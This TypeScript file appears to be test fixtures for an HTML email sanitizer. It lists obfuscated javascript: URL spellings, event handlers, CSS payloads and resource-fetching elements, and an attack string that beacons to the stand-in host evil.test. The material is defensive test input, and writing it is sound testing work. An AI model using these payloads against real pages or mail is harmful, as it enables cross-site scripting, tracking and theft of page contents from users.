/** Decides which spellings and places the hostile mails combine: addresses that run, elements that fetch, styles that move. */

/** What every hostile script tries: be seen by the browser, by the page around, and by the outside. */
export const ATTACK =
  "alert(1);window.name='hostile';top.hostile=1;new Image().src='https://evil.test/js'"
export const EVIL = 'https://evil.test'

const CODE = 'alert(1)'
/** Ways to write an address that runs; the ideas are common knowledge, the wording is ours. */
export const RUNNING_ADDRESSES: Record<string, string> = {
  plain: `javascript:${CODE}`,
  'mixed case': `JaVaScRiPt:${CODE}`,
  'leading space': `   javascript:${CODE}`,
  'leading control sign': `&#1;javascript:${CODE}`,
  'all leading controls': `&#1;&#2;&#14;&#15;&#27;&#31; javascript:${CODE}`,
  'tab inside': `java\tscript:${CODE}`,
  'tab as entity': `java&#x09;script:${CODE}`,
  'tab as a named entity': `java&Tab;script:${CODE}`,
  'line end inside': `java\nscript:${CODE}`,
  'line end as entity': `java&#10;script:${CODE}`,
  'carriage return': `java&#13;script:${CODE}`,
  'named line end': `java&NewLine;script:${CODE}`,
  'named colon': `javascript&colon;${CODE}`,
  'decimal entities': Array.from(`javascript:${CODE}`)
    .map((sign) => `&#${sign.charCodeAt(0)};`)
    .join(''),
  'decimal entities without an end': Array.from(`javascript:${CODE}`)
    .map((sign) => `&#${String(sign.charCodeAt(0)).padStart(7, '0')}`)
    .join(''),
  'hexadecimal entities': Array.from(`javascript:${CODE}`)
    .map((sign) => `&#X${sign.charCodeAt(0).toString(16)}`)
    .join(';'),
  'zero sign inside': `java\0script:${CODE}`,
  'soft hyphen': `java&shy;script:${CODE}`,
  'zero width space': `java\u200bscript:${CODE}`,
  'ideographic space in front': `\u3000javascript:${CODE}`,
  'byte order mark in front': `\ufeffjavascript:${CODE}`,
  'full-width letters': `ｊavascript:${CODE}`,
  'long s and dotless i': `java\u017fcript:${CODE}`,
  'percent signs': `javascript%3A${CODE}`,
  'double percent signs': `javascript%253A${CODE}`,
  'comment that looks like an address': `javascript://evil.test/%0a${CODE}`,
  'address in front': `https:javascript:${CODE}`,
  'feed in front': `feed:javascript:${CODE}`,
  'view-source': `view-source:javascript:${CODE}`,
  jar: `jar:javascript:${CODE}!/`,
  vbscript: 'vbscript:msgbox(1)',
  livescript: `livescript:${CODE}`,
  mocha: `mocha:${CODE}`,
  'data document': `data:text/html,<script>${CODE}</script>`,
  'data document in base64': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data picture that is a document': `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>`,
  'data without a kind': `data:,${CODE}`,
  blob: 'blob:https://evil.test/1',
  file: 'file:///etc/passwd',
  filesystem: 'filesystem:https://evil.test/temporary/a',
  about: 'about:blank#<script>alert(1)</script>',
  backquotes: '`javascript:alert(1)`',
}

/** Places for an address; @ stands for it. */
export const ADDRESS_PLACES: Record<string, string> = {
  'a link': '<a href="@">read me</a>',
  'a picture': '<img src="@" alt="x">',
  'a form': '<form action="@"><button>go</button></form>',
  'a frame': '<iframe src="@"></iframe>',
  'a background': '<table background="@"><tr><td background="@">x</td></tr></table>',
}

export const EVENTS = (
  'onload onerror onclick onmouseover onfocus onblur onauxclick onbeforetoggle onanimationstart ontransitionend ' +
  'onpointerenter onwheel ontoggle onscroll onpaste oncut onbegin onend onfinish onbounce onstart onpageshow ' +
  'onhashchange onmessage oncontentvisibilityautostatechange onsecuritypolicyviolation'
).split(' ')

/** Styles that would fetch, run, move or cover; each goes into an attribute and a block. */
export const STYLES: Record<string, string> = {
  'fetches a background': `background:url(${EVIL}/css)`,
  'fetches with spaces': `background : u\\72l( "${EVIL}/css" )`,
  'fetches in capitals': `BACKGROUND-IMAGE:URL(${EVIL}/css)`,
  'fetches behind a comment': `background:u/**/rl(${EVIL}/css)`,
  'fetches an image set': `background-image:image-set("${EVIL}/css" 1x)`,
  'fetches a gradient and more': `background:linear-gradient(red,red),url(//evil.test/css)`,
  'fetches a list sign': `list-style:url(${EVIL}/css)`,
  'fetches a pointer': `cursor:url(${EVIL}/css),auto`,
  'fetches content': `content:url(${EVIL}/css)`,
  'fetches a border': `border-image:url(${EVIL}/css) 1`,
  'fetches a mask': `mask:url(${EVIL}/css);-webkit-mask-image:url(${EVIL}/css)`,
  'fetches a filter': `filter:url(${EVIL}/css#x)`,
  'fetches a shape': `shape-outside:url(${EVIL}/css);clip-path:url(${EVIL}/css#c)`,
  'fetches a variable': `--x:url(${EVIL}/css);background:var(--x)`,
  'runs an expression': 'width:expression(alert(1))',
  'runs an expression in pieces': 'width:exp/**/ression(alert(1));xss:e\\xpression(alert(1))',
  'runs a behaviour': `behavior:url(${EVIL}/x.htc)`,
  'runs a binding': `-moz-binding:url(${EVIL}/x.xml#x)`,
  'runs an address': "background:url('javascript:alert(1)')",
  'covers all':
    'position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red',
  'covers with escapes': 'p\\6fsition:fixed;inset:0',
  sticks: 'position:sticky;top:0',
  'stands outside': 'position:absolute;left:-9999px;top:-9999px',
  'moves out': 'margin:-5000px 0 0 -5000px;transform:translate(-200%,-200%) scale(50)',
  'grows for ever': 'height:99999999px;width:99999999px;font-size:99999px;padding:1e9px',
  'grows with its frame': 'height:101vh;min-height:120dvh',
  'breaks out of the attribute': 'color:red"onmouseover="alert(1)',
  'breaks out of the rule': 'color:red}*{background:url(//evil.test/css)',
  'closes the block': 'color:red</style><script>alert(1)</script>',
  'hides behind important': 'position : fixed ! important;inset:0!important',
  animates: 'animation:x 1s infinite;transition:all 1s',
}

/** Elements that fetch, run, redirect or change how addresses are read; @ stands for a place outside. */
export const FETCHERS: Record<string, string> = {
  'a script': '<script src="@"></script>',
  'a style sheet': '<link rel="stylesheet" href="@"><link rel=preload as=image href="@">',
  'a prefetch':
    '<link rel="dns-prefetch" href="@"><link rel=prefetch href="@"><link rel=preconnect href="@">',
  'a manifest and an icon': '<link rel="manifest" href="@"><link rel="icon" href="@">',
  'an import in a style':
    '<style>@import "@"; @import url(@);@font-face{font-family:x;src:url(@)}</style>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=@">',
  'a cookie':
    '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="img-src *">',
  'a base': '<base href="@/" target="_top"><a href="x">x</a><img src="x.png">',
  'a frame': '<iframe src="@"></iframe><frameset><frame src="@"></frameset>',
  'a frame with its own text': '<iframe srcdoc="<script>alert(1)</script><img src=@>"></iframe>',
  'a fenced frame': '<fencedframe src="@"></fencedframe><portal src="@"></portal>',
  'an object': '<object data="@" type="text/html"><embed src="@"></object>',
  'an applet': '<applet code="x" archive="@" codebase="@"></applet>',
  'a picture': '<img src="@/p.png" alt="x">',
  'a picture in sizes': '<img srcset="@/1.png 1x, @/2.png 2x" sizes="100vw" alt="x">',
  'a picture of old': '<img dynsrc="@/1.png" lowsrc="@/2.png" longdesc="@" usemap="@" alt="x">',
  'a picture element': '<picture><source srcset="@/1.webp"><img src="@/2.png" alt="x"></picture>',
  'a picture under its old name': '<image src="@/1.png">',
  'sound and film':
    '<video src="@" poster="@/1.png" autoplay><source src="@"><track src="@"></video><audio src="@" autoplay></audio>',
  'backgrounds of old':
    '<body background="@/1.png"><table background="@/2.png"><td background="@/3.png">x</table>',
  'a picture button':
    '<form action="@"><input type="image" src="@/1.png"><input name=q autofocus></form>',
  'a form that takes what follows': '<form action="@"><textarea name=rest>the rest of the page',
  'a button elsewhere':
    '<button form="x" formaction="@">go</button><input type=submit formaction="@">',
  'a ping': '<a href="https://fine.test/" ping="@" attributionsrc="@" download="x.exe">x</a>',
  'a map':
    '<map name=m><area href="@" target=_top shape=default></map><img usemap="#m" src="cid:a">',
  'a drawing':
    '<svg><image href="@/1.png" xlink:href="@/1.png"/><use href="@#x"/><feImage href="@/2.png"/></svg>',
  'vector markup of old': '<v:rect><v:fill src="@/1.png"/><v:imagedata src="@/2.png"/></v:rect>',
  'an xml island':
    '<xml src="@" id=x></xml><?xml-stylesheet href="@"?><?import namespace="t" implementation="@">',
  'a citation': '<q cite="@">x</q><blockquote cite="@">x</blockquote><ins cite="@">x</ins>',
  'a conditional comment':
    '<!--[if gte IE 4]><script src="@"></script><![endif]--><![if true]><img src="@/1.png"><![endif]>',
  speculation: '<script type="speculationrules">{"prefetch":[{"urls":["@"]}]}</script>',
  'a layer of old': '<layer src="@"></layer><ilayer src="@"></ilayer><bgsound src="@">',
}
